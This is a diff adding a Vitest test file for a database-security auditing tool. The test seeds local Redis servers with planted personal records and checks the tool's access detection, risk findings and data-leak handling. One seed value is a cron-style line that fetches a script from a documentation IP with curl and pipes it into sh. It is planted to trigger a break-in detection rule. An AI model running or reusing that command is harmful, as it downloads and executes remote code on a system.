@@ -1,0 +1,140 @@
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { ByteStream } from '../../electron/engine/dialer/byte-stream.ts';
+import { Dialer } from '../../electron/engine/dialer/dialer.ts';
+import { encodeCommand, readResp } from '../../electron/engine/protocols/resp.ts';
+import { createScope } from '../../electron/engine/scope/scope.ts';
+import { allowListed } from '../support/allow-listed.ts';
+import { rulesOf, testEngine, typesByField } from '../support/engine.ts';
+import { leaksInFolder, leaksInReports } from '../support/leaks.ts';
+import { plantedPeople } from '../support/people.ts';
+import { has, type RealServer, startRedis } from '../support/processes.ts';
+
+const planted = plantedPeople(60, 'redis');
+
+async function send(port: number, commands: string[][]): Promise<void> {
+  const dialer = new Dialer({
+    scope: createScope(['127.0.0.1'], [], false),
+    timeoutMs: 3000,
+    tlsInsecureOk: false,
+    note: () => {},
+  });
+  const endpoint = {
+    target: '',
+    host: '127.0.0.1',
+    address: '127.0.0.1',
+    port,
+    hint: { kind: null, tls: null, path: '' },
+    credential: null,
+    named: true,
+  };
+  const stream = await ByteStream.open(dialer.dial(endpoint, {}, new AbortController().signal), false);
+  for (const command of commands) {
+    stream.write(encodeCommand(command));
+    await readResp(stream);
+  }
+  stream.close();
+}
+
+const seeds = [
+  ...planted.records.map((record, n) => ['SET', `profile:${1000 + n}`, JSON.stringify(record)]),
+  ...planted.records.map((record, n) => [
+    'HSET',
+    `user:${1000 + n}`,
+    'email',
+    String(record.email),
+    'visits',
+    String(n),
+  ]),
+  ...planted.records.map((record, n) => ['RPUSH', `email:${1000 + n}`, String(record.email)]),
+  ['SET', 'backup1', '\n\n*/2 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n\n'],
+];
+
+describe.skipIf(!has('redis'))('Redis', () => {
+  let open: RealServer;
+  let locked: RealServer;
+  let partly: RealServer;
+  beforeAll(async () => {
+    [open, locked, partly] = await Promise.all([
+      startRedis('--protected-mode', 'no'),
+      startRedis('--requirepass', 'Kestrel-7741'),
+      startRedis(
+        '--user',
+        'default',
+        'on',
+        'nopass',
+        '~profile:*',
+        '-@all',
+        '+@read',
+        '+ping',
+        '+info',
+        '+dbsize',
+        '+select',
+      ),
+    ]);
+    await send(open.port, seeds);
+    await send(locked.port, [['AUTH', 'Kestrel-7741'], ...seeds]);
+  });
+  afterAll(async () => {
+    await Promise.all([open?.stop(), locked?.stop(), partly?.stop()]);
+  });
+
+  test('open: version, access, patterns, fields, findings; nothing raw is kept', async () => {
+    const ajar = testEngine();
+    const audited = await ajar.audit(`127.0.0.1:${open.port}`);
+    const store = audited.store(open.port);
+    expect(store).toMatchObject({ kind: 'redis', product: 'Redis', access: 'admin', complete: true, errors: [] });
+    expect(store.version).toMatch(/^\d+\.\d+/);
+    expect(store.namespaces.map((n) => n.name).toSorted()).toEqual(
+      ['db0 backup*', 'db0 email:*', 'db0 profile:*', 'db0 user:*'].toSorted(),
+    );
+    const fields = typesByField(store);
+    expect(fields['db0 profile:* profile.email']).toContain('email');
+    expect(fields['db0 profile:* profile.wifi.ssid']).toContain('wifi-ssid');
+    expect(fields['db0 user:* email']).toContain('email');
+    expect(fields['db0 email:* email[]']).toContain('email');
+    expect(rulesOf(store)).toEqual(
+      expect.arrayContaining([
+        'redis.no-authentication',
+        'redis.personal-data-readable',
+        'redis.dangerous-commands',
+        'redis.protected-mode-off',
+        'redis.signs-of-a-break-in',
+        'redis.no-tls',
+      ]),
+    );
+    allowListed(audited, 'redis');
+    expect(await leaksInReports(ajar.engine, audited.auditId, planted.raw)).toEqual([]);
+    await ajar.close(true);
+    expect(leaksInFolder(ajar.dataDir, planted.raw)).toEqual([]);
+  });
+
+  test('with a password: a stranger gets nothing; with it the store is read', async () => {
+    const ajar = testEngine();
+    const audited = await ajar.audit(`127.0.0.1:${locked.port}`);
+    expect(audited.store(locked.port)).toMatchObject({
+      access: 'none',
+      capabilities: { read: { state: 'denied' }, metadata: { state: 'denied' } },
+    });
+    expect(rulesOf(audited.store(locked.port))).not.toContain('redis.no-authentication');
+    const known = await ajar.audit(`127.0.0.1:${locked.port}`, {
+      credential: { user: 'default', password: 'Kestrel-7741' },
+    });
+    expect(known.store(locked.port)).toMatchObject({ access: 'admin', as: 'default' });
+    expect(typesByField(known.store(locked.port))['db0 user:* email']).toContain('email');
+    expect(rulesOf(known.store(locked.port))).not.toContain('redis.no-authentication');
+    allowListed(audited, 'redis');
+    await ajar.close();
+  });
+
+  test('a default user of few rights may read and not write', async () => {
+    const ajar = testEngine();
+    const audited = await ajar.audit(`127.0.0.1:${partly.port}`);
+    const store = audited.store(partly.port);
+    expect(store.capabilities.write.state).not.toBe('proven');
+    expect(store.capabilities.admin.state).not.toBe('proven');
+    expect(store.capabilities.metadata.state).toBe('proven');
+    expect(rulesOf(store)).not.toContain('redis.dangerous-commands');
+    allowListed(audited, 'redis');
+    await ajar.close();
+  });
+});
